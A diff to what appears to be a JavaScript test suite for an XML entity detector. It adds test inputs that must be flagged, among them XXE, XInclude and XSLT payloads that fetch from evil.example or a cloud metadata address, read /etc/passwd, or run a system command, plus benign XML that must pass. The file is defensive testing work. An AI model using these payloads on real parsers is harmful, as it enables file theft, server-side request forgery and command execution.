@@ -16,7 +16,19 @@ describe('declarations of XML that reach out', () => {
     '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://169.254.169.254/">]><svg>&x;</svg>',
     "<!DOCTYPE a SYSTEM 'ftp://evil.example/a.dtd'>",
     '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>',
+    '<!DOCTYPE a SYSTEM "\\\\evil.example\\x.dtd">',
+    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://evil.example/x.xsl"/></xsl:stylesheet>',
+    '<xsl:value-of select="document(\'/etc/passwd\')"/>',
+    "<xsl:value-of select=\"php:function('system','id')\"/>",
   ])('is seen in %j', (text) => {
     expect(surestScore(detectXmlEntities, text)).toBeGreaterThanOrEqual(REFUSED);
+  });
+
+  it.each([
+    '<!DOCTYPE note SYSTEM "note.dtd"><note/>',
+    '<xsl:template match="/"><xsl:value-of select="title"/></xsl:template>',
+    '<xsl:include href="header.xsl"/>',
+  ])('are not seen in %j', (text) => {
+    expect(surestScore(detectXmlEntities, text)).toBeLessThan(REFUSED);
   });
 });
